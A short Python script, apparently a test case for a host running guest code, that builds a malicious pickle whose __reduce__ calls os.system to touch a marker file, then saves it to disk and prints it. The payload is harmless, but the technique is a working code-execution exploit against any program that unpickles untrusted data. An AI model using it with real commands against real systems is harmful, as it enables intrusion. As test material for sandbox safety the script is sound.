# A value that runs code where it is unpickled: printed, left as a file and returned, for a host that trusts its guests.
# expect: success
import os
import pickle


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-unpickled",)


with open("hostile.pkl", "wb") as file:
    pickle.dump(Trap(), file)
print(pickle.dumps(Trap(), 0).decode())
Trap()
